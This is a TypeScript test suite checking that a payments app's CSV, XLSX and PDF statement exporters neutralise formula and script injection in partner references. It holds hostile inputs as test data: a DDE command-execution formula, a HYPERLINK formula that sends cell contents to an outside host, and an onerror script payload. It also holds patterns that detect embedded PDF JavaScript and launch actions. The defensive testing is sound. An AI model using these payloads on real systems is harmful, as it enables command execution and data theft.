/**
 * References that would compute, or run, wherever a statement is opened. Partners send them: the database takes any printable ASCII without a
 * space at either end (transaction_external_reference), so no tab or line break comes as far. The writers don't rely on that.
 */
import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import { formatAmount } from '@vezne/domain/money';
import { csvOf } from '../../../src/documents/partner-statement/csv.ts';
import { pdfOf } from '../../../src/documents/partner-statement/pdf.ts';
import type { Statement, StatementLine } from '../../../src/documents/partner-statement/statement.ts';
import { xlsxOf } from '../../../src/documents/partner-statement/xlsx.ts';
import { parse } from '../../harness/csv-file.ts';
import { bytesOf, sampleStatement } from '../../harness/sample-statement.ts';
import { pdfLines, sheetOf, unzip } from '../../harness/statement-files.ts';
import { SCRIPT_PAYLOADS } from '../../http/pay/script-payloads.ts';

const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1:A9)',
  `=cmd|'/C calc'!A0`,
  '=HYPERLINK("https://e.ee?"&A1,"x")',
  "'=1+1",
  `"=1+1`,
  'a;=1+1',
  'a;"=1+1',
  'a|-1',
  '_x003d_1+1',
  '%3D1+1',
];
const BEYOND_THE_DATABASE = ['\t=1+1', '\r=1+1', '\n=1+1', 'a\t=1+1', '\uff1d1+1', ' =1+1'];

const REFERENCES = [...FORMULAS, ...SCRIPT_PAYLOADS].slice(0, 213);

/** A statement with one line for each, and with a name that would be script. */
function hostile(references: readonly string[]): {
  statement: Statement;
  lines: StatementLine[];
  inParts: () => AsyncGenerator<StatementLine[]>;
} {
  const { statement, lines: all } = sampleStatement(references.length, {
    partnerName: '=<img src=x onerror=top.x=1>',
  });
  const lines = all.map((line, index) => ({
    ...line,
    operationId: null,
    transaction: {
      id: `01990000-0000-7000-8000-${String(index).padStart(12, '0')}`,
      referenceCode: null,
      externalReference: references[index] ?? '',
    },
  }));
  return {
    statement,
    lines,
    async *inParts() {
      yield await Promise.resolve(lines);
    },
  };
}

const FORMULA = /^[\s"']*[=+\-@\uff0b\uff0d\uff1d\uff20]/;
/** Of what a spreadsheet takes for the beginning of a formula: not behind an apostrophe. */
const computes = (cell: string): boolean => FORMULA.test(cell) && !/^[\s"]*'/.test(cell.trimStart());

/** How a program has the reference back: the apostrophe before what would compute is ours. */
const withoutOurApostrophe = (cell: string): string =>
  cell.replaceAll(/(^|[;|])([\s"']*)'(?=[=+\-@])/g, '$1$2');

suite('a statement full of formulas and scripts', () => {
  test('as CSV computes nothing, whatever parts its cells, and programs read references and sums', async () => {
    const { statement, lines, inParts } = hostile(REFERENCES);
    const text = (await bytesOf(csvOf(statement, inParts()))).toString('utf8').slice(1);
    const [head = [], ...rows] = parse(text);
    const at = (row: readonly string[], column: string): string => row[head.indexOf(column)] ?? '';
    const movements = rows.filter((row) => at(row, 'record') === 'movement');
    assert.deepEqual(
      movements.map((row) => withoutOurApostrophe(at(row, 'external_reference'))),
      REFERENCES,
    );
    for (const row of movements) assert.ok(!computes(at(row, 'external_reference')), row.join());
    // A spreadsheet that parts by semicolons or tabs takes quotes for letters.
    for (const separator of [';', '\t'])
      for (const line of text.split('\r\n').slice(1))
        for (const cell of line.split(separator).slice(1)) assert.ok(!computes(cell), cell);
    // What is ours stays a number, also below zero.
    for (const [index, row] of movements.entries())
      assert.equal(at(row, 'net'), formatAmount(lines[index]?.movement.netCents ?? assert.fail()));
    const net = (row: readonly string[]): bigint => BigInt(at(row, 'net').replace('.', ''));
    const total = rows.find((row) => at(row, 'record') === 'total') ?? assert.fail();
    assert.equal(
      movements.reduce((sum, row) => sum + net(row), 0n),
      net(total),
    );
    assert.equal(
      statement.balance.openingCents + net(total),
      statement.balance.closingCents,
      'the sums are those of the books',
    );
  });

  test('as CSV computes nothing either for what the database would not take', async () => {
    const { statement, inParts } = hostile(BEYOND_THE_DATABASE);
    const [head = [], ...rows] = parse(
      (await bytesOf(csvOf(statement, inParts()))).toString('utf8').slice(1),
    );
    const cells = rows
      .map((row) => row[head.indexOf('external_reference')] ?? '')
      .filter((one) => one !== '');
    assert.equal(cells.length, BEYOND_THE_DATABASE.length);
    for (const cell of cells) {
      assert.ok(!computes(cell), JSON.stringify(cell));
      assert.doesNotMatch(cell, /^[\t\r\n]/, 'such a beginning is dropped, and the rest would be read');
      for (const part of cell.split(/[\t\r\n]/)) assert.ok(!computes(part), JSON.stringify(cell));
    }
  });

  test('as XLSX has each as a text, letter by letter, and no formula', async () => {
    const { statement, lines, inParts } = hostile(REFERENCES);
    const bytes = await bytesOf(xlsxOf(statement, inParts()));
    const files = unzip(bytes);
    for (const [name, content] of files)
      if (name.startsWith('xl/worksheets/')) {
        const xml = content.toString('utf8');
        assert.doesNotMatch(xml, /<f[\s>/]|<hyperlink|t="(?:str|s|b|e)"/, name);
      }
    assert.deepEqual(
      [...files.keys()].filter((name) => /vba|external|drawing|media/i.test(name)),
      [],
    );
    const sheet = sheetOf(bytes, 2);
    const xml = files.get('xl/worksheets/sheet2.xml')?.toString('utf8') ?? '';
    for (const [index, { movement, transaction }] of lines.entries()) {
      // The head and the opening stand above.
      const row = index + 3;
      assert.equal(sheet.get(`C${row}`), transaction?.externalReference);
      assert.ok(xml.includes(`<c r="C${row}" t="inlineStr">`), `row ${row}`);
      assert.equal(sheet.get(`H${row}`), formatAmount(movement.netCents));
    }
    assert.equal(sheetOf(bytes, 1).get('A1'), statement.partnerName);
  });

  test('as PDF draws each as letters, and has nothing that runs or leads elsewhere', async () => {
    const { statement, inParts } = hostile(REFERENCES);
    const bytes = await bytesOf(pdfOf(statement, inParts()));
    assert.doesNotMatch(
      bytes.toString('latin1'),
      /\/(?:JavaScript|JS|URI|Launch|OpenAction|AA|Annots?|AcroForm|EmbeddedFiles?)\b/,
    );
    const pages = await pdfLines(bytes);
    const pieces = pages.flat(2);
    assert.ok(pieces.includes(statement.partnerName), 'the name');
    // A long one is shortened in its middle.
    const isDrawn = (reference: string): boolean =>
      pieces.some((piece) => {
        const [start = '', end = ''] = piece.split('…');
        return (
          piece === reference ||
          (piece.includes('…') && reference.startsWith(start) && reference.endsWith(end))
        );
      });
    assert.deepEqual(
      REFERENCES.filter((reference) => !isDrawn(reference.replaceAll(/\s+/g, ' '))),
      [],
    );
  });
});
